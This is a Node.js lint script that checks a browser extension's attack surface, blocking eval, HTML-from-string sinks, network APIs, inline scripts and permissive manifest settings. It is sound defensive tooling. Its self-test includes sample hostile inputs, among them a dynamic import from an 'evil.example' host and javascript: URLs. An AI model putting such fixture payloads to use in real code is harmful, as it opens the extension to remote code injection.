#!/usr/bin/env node
// Static check of the extension's attack surface, part of `make test`
// (`make check-no-eval`). Fails when any file under extension/ (sources, HTML pages) or a
// built extension (dist/…, with the wasm-bindgen glue bundled into background.js)
// contains:
//   - code from strings: eval, new Function / Function(...), setTimeout/setInterval
//     with a string, dynamic import(), importScripts, javascript: URLs;
//   - HTML from strings: innerHTML, outerHTML, insertAdjacentHTML, document.write,
//     createContextualFragment, DOMParser.parseFromString, srcdoc, setHTML;
//   - a network API (fetch, XMLHttpRequest, WebSocket, EventSource, sendBeacon,
//     RTCPeerConnection, WebTransport) outside the one allowed use below;
//   - inline <script> or on*= handlers in the HTML pages;
// and when the manifest template asks for more than `storage`, relaxes the CSP beyond
// 'wasm-unsafe-eval', or exposes anything to web pages or other extensions.
// Comments and the text inside string literals are not code and are skipped; a banned
// name is found even when it is only read (reading innerHTML is not dangerous, but
// nothing needs it: keep the rule simple and absolute).
//   node scripts/check-no-eval.mjs [DIR]     (default: extension/)
//   node scripts/check-no-eval.mjs --self-test
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const REPO = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');

const CODE_RULES = [
  [/\beval\s*\(/, 'eval()'],
  [/\bnew\s+Function\b/, 'new Function'],
  [/(^|[^.\w$])Function\s*\(/, 'Function() constructor'],
  [/\b(setTimeout|setInterval)\s*\(\s*(['"`]|\$STR)/, 'setTimeout/setInterval with a string'],
  [/(^|[^.\w$])import\s*\(/, 'dynamic import()'],
  [/\bimportScripts\b/, 'importScripts'],
  [/\binnerHTML\b/, 'innerHTML'],
  [/\bouterHTML\b/, 'outerHTML'],
  [/\binsertAdjacentHTML\b/, 'insertAdjacentHTML'],
  [/\bdocument\s*\.\s*write(ln)?\b/, 'document.write'],
  [/\bcreateContextualFragment\b/, 'createContextualFragment'],
  [/\bparseFromString\b/, 'DOMParser.parseFromString'],
  [/\bsrcdoc\b/, 'srcdoc'],
  [/\bsetHTML(Unsafe)?\b/, 'setHTML'],
  [/\bexecuteScript\b/, 'executeScript'],
  [/\b(XMLHttpRequest|WebSocket|EventSource|sendBeacon|RTCPeerConnection|WebTransport)\b/, 'network API'],
  [/(^|[^.\w$])fetch\s*\(/, 'fetch()'],
];
const STRING_RULES = [
  [/^\s*javascript:/i, 'javascript: URL'],
];

// The one justified exception. wasm-bindgen's generated loader (target/pkg/
// reply_coach.js, `__wbg_init`, bundled into a built extension's background.js) fetches
// the engine's .wasm; background.js passes it
// `api.runtime.getURL('pkg/reply_coach_bg.wasm')`, the extension's own packaged file,
// and the e2e tests (tests/e2e/attack.test.mjs) prove no request leaves the extension.
const ALLOW = [
  { file: 'background.js', rule: 'fetch()', max: 1 },
];

// Replaces comments by spaces and the content of string, template and regex literals by
// `$STR`, keeping line numbers. Template `${...}` parts stay code.
export function stripJs(src) {
  let out = '';
  let i = 0;
  const n = src.length;
  const stack = []; // template nesting: brace depth at each `${`
  let depth = 0;
  let lastSignificant = '';
  let word = '';
  let prev = '';
  const keepNewlines = (s) => s.replace(/[^\n]/g, ' ');
  while (i < n) {
    const c = src[i];
    const d = src[i + 1];
    if (c === '/' && d === '/') {
      const end = src.indexOf('\n', i);
      const stop = end === -1 ? n : end;
      out += keepNewlines(src.slice(i, stop));
      i = stop;
      continue;
    }
    if (c === '/' && d === '*') {
      const end = src.indexOf('*/', i + 2);
      const stop = end === -1 ? n : end + 2;
      out += keepNewlines(src.slice(i, stop));
      i = stop;
      continue;
    }
    if (c === '"' || c === "'") {
      let j = i + 1;
      while (j < n && src[j] !== c && src[j] !== '\n') j += src[j] === '\\' ? 2 : 1;
      const body = src.slice(i + 1, j);
      out += c + (STRING_RULES.some(([re]) => re.test(body)) ? `$JS:${body}` : '$STR') + c;
      prev = c;
      i = j + 1;
      lastSignificant = 'x';
      continue;
    }
    if (c === '`' || (c === '}' && stack.length && stack[stack.length - 1] === depth)) {
      // template text until ` or ${
      if (c === '}') stack.pop();
      let j = i + 1;
      let text = '';
      while (j < n && src[j] !== '`' && !(src[j] === '$' && src[j + 1] === '{')) {
        if (src[j] === '\\') { text += '  '; j += 2; continue; }
        text += src[j] === '\n' ? '\n' : ' ';
        j++;
      }
      out += (c === '`' ? '`$STR' : '}$STR') + text.replace(/[^\n]/g, '');
      if (src[j] === '`') { out += '`'; i = j + 1; lastSignificant = 'x'; continue; }
      out += '${';
      stack.push(depth);
      i = j + 2;
      continue;
    }
    if (c === '/' && /[(,=:[!&|?{};+\-*%<>~^]|^$|return$|typeof$/.test(lastSignificant)) {
      // a regex literal
      let j = i + 1;
      let inClass = false;
      while (j < n && src[j] !== '\n') {
        if (src[j] === '\\') { j += 2; continue; }
        if (src[j] === '[') inClass = true;
        else if (src[j] === ']') inClass = false;
        else if (src[j] === '/' && !inClass) break;
        j++;
      }
      out += '/$STR/';
      prev = '/';
      i = j + 1;
      lastSignificant = 'x';
      continue;
    }
    if (c === '{') depth++;
    if (c === '}') depth--;
    out += c;
    if (/[\w$]/.test(c)) {
      // the word being read, for `return /re/` and `typeof /re/`
      word = /[\w$]/.test(prev) ? word + c : c;
      lastSignificant = word;
    } else if (!/\s/.test(c)) lastSignificant = c;
    prev = c;
    i++;
  }
  return out;
}

export function checkJs(name, src) {
  const problems = [];
  const code = stripJs(src);
  const lines = code.split('\n');
  lines.forEach((line, k) => {
    for (const [re, rule] of CODE_RULES) {
      if (re.test(line)) problems.push({ file: name, line: k + 1, rule, text: src.split('\n')[k].trim().slice(0, 120) });
    }
    if (/\$JS:/.test(line)) problems.push({ file: name, line: k + 1, rule: 'javascript: URL', text: src.split('\n')[k].trim().slice(0, 120) });
  });
  return problems;
}

export function checkHtml(name, src) {
  const problems = [];
  src.split('\n').forEach((line, k) => {
    if (/<script(?![^>]*\bsrc=)[^>]*>/i.test(line)) problems.push({ file: name, line: k + 1, rule: 'inline <script>', text: line.trim() });
    if (/\son[a-z]+\s*=/i.test(line)) problems.push({ file: name, line: k + 1, rule: 'inline on*= handler', text: line.trim() });
    if (/javascript:/i.test(line)) problems.push({ file: name, line: k + 1, rule: 'javascript: URL', text: line.trim() });
    if (/<script[^>]*\bsrc=["']?https?:/i.test(line)) problems.push({ file: name, line: k + 1, rule: 'remote script', text: line.trim() });
  });
  return problems;
}

export function checkManifest(name, src) {
  const problems = [];
  const m = JSON.parse(src);
  const add = (rule, text) => problems.push({ file: name, line: 0, rule, text });
  if (JSON.stringify(m.permissions ?? []) !== '["storage"]') add('permissions beyond storage', JSON.stringify(m.permissions));
  if (m.optional_permissions?.length) add('optional permissions', JSON.stringify(m.optional_permissions));
  for (const key of ['externally_connectable', 'web_accessible_resources', 'content_security_policy.sandbox', 'sandbox', 'oauth2', 'key', 'update_url']) {
    const v = key.split('.').reduce((o, k) => o?.[k], m);
    if (v !== undefined) add(`manifest declares ${key}`, JSON.stringify(v));
  }
  const csp = m.content_security_policy?.extension_pages ?? '';
  if (csp) {
    const script = /script-src([^;]*)/.exec(csp)?.[1]?.trim().split(/\s+/) ?? [];
    const bad = script.filter((s) => !["'self'", "'wasm-unsafe-eval'"].includes(s));
    if (bad.length) add('CSP script-src beyond self + wasm-unsafe-eval', csp);
  }
  return problems;
}

function walk(dir) {
  const out = [];
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...walk(p));
    else out.push(p);
  }
  return out;
}

export function checkDir(dir) {
  let problems = [];
  for (const file of walk(dir)) {
    const rel = path.relative(dir, file).split(path.sep).join('/');
    const src = () => fs.readFileSync(file, 'utf8');
    if (/\.(m?js|ts)$/.test(file) && !file.endsWith('.d.ts')) problems.push(...checkJs(rel, src()));
    else if (/\.html?$/.test(file)) problems.push(...checkHtml(rel, src()));
    else if (/manifest(\.template)?\.json$/.test(file)) problems.push(...checkManifest(rel, src()));
  }
  for (const a of ALLOW) {
    const hits = problems.filter((p) => p.file === a.file && p.rule === a.rule);
    if (hits.length <= a.max) problems = problems.filter((p) => !(p.file === a.file && p.rule === a.rule));
  }
  return problems;
}

function selfTest() {
  const bad = {
    'eval("1")': 'eval()', 'x = new Function("a", b)': 'new Function', 'const f = Function(src)': 'Function() constructor',
    'el.innerHTML = post.text': 'innerHTML', 'el.outerHTML=x': 'outerHTML', "el.insertAdjacentHTML('beforeend', s)": 'insertAdjacentHTML',
    'document.write(s)': 'document.write', "setTimeout('alert(1)', 5)": 'setTimeout/setInterval with a string',
    "import('https://evil.example/x.js')": 'dynamic import()', 'fetch(url)': 'fetch()', 'new WebSocket(u)': 'network API',
    "a.href = 'javascript:alert(1)'": 'javascript: URL', 'r.createContextualFragment(s)': 'createContextualFragment',
    'navigator.sendBeacon(u, d)': 'network API', 'el[`inner${"HTML"}`] = 1; el.innerHTML += s': 'innerHTML',
  };
  const good = [
    '// el.innerHTML = x in a comment', "const s = 'eval(1) in a string';", 'const t = `Function(${name})`;',
    '/* document.write(x) */', 'el.textContent = post.text;', 'const re = /eval\\(/;', 'x.evaluate(1); myfetch(1); obj.fetch(1)',
  ];
  const fails = [];
  for (const [src, rule] of Object.entries(bad)) {
    if (!checkJs('t.js', src).some((p) => p.rule === rule)) fails.push(`not caught: ${src}`);
  }
  for (const src of good) {
    const p = checkJs('t.js', src);
    if (p.length) fails.push(`false alarm: ${src} (${p.map((x) => x.rule)})`);
  }
  if (!checkHtml('t.html', '<button onclick="x()">').length) fails.push('inline handler not caught');
  if (!checkHtml('t.html', '<script>alert(1)</script>').length) fails.push('inline script not caught');
  if (checkHtml('t.html', '<script type="module" src="popup.js"></script>').length) fails.push('false alarm: script src');
  if (!checkManifest('m.json', '{"permissions":["storage","tabs"]}').length) fails.push('extra permission not caught');
  if (!checkManifest('m.json', '{"permissions":["storage"],"content_security_policy":{"extension_pages":"script-src \'self\' \'unsafe-eval\'"}}').length) fails.push('unsafe-eval CSP not caught');
  if (!checkManifest('m.json', '{"permissions":["storage"],"web_accessible_resources":[]}').length) fails.push('web_accessible_resources not caught');
  return fails;
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  if (process.argv[2] === '--self-test') {
    const fails = selfTest();
    if (fails.length) {
      console.error(`check-no-eval self-test failed:\n  ${fails.join('\n  ')}`);
      process.exit(1);
    }
    console.log('check-no-eval: self-test ok');
    process.exit(0);
  }
  const dir = path.resolve(process.argv[2] ?? path.join(REPO, 'extension'));
  const problems = checkDir(dir);
  if (problems.length) {
    console.error(`check-no-eval: ${problems.length} problem(s) in ${path.relative(REPO, dir) || dir}:`);
    for (const p of problems) console.error(`  ${p.file}:${p.line}: ${p.rule}: ${p.text}`);
    console.error('No code or HTML from strings, no network: see the header of scripts/check-no-eval.mjs.');
    process.exit(1);
  }
  console.log(`check-no-eval: ${path.relative(REPO, dir) || dir} ok (no eval, no HTML from strings, no network, manifest: storage only)`);
}
